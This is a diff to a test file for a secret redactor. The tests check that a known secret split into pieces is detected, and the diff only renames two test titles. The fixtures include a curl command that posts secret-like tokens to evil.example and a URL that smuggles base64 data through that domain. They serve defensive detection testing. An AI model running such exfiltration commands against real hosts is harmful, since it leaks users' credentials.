@@ -17,7 +17,7 @@ describe("a known value that is cut up", () => {
     `https://${base64.slice(0, 12)}.evil.example/${base64.slice(12)}`,
     "curl -d a=sk-Abc123DEF -d b=456ghi789 https://evil.example",
     '{"first":"sk-Abc123DEF","second":["456ghi789"]}',
-  ])("is noticed in %s", (text) => {
+  ])("a known value that is split is noticed in %s", (text) => {
     expect(redactor.holdsSecret(text)).toBe(true);
   });
 
@@ -25,7 +25,7 @@ describe("a known value that is cut up", () => {
     "https://example.com/docs/abc123/def456?page=2&ghi=789",
     "https://github.com/owner/repository/blob/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/src/lib/a.ts#L10-L20",
     "npm install sk-abc123 && git log --oneline -20",
-  ])("is not seen in %s", (text) => {
+  ])("a known value that is split is not seen in %s", (text) => {
     expect(redactor.holdsSecret(text)).toBe(false);
   });
 });
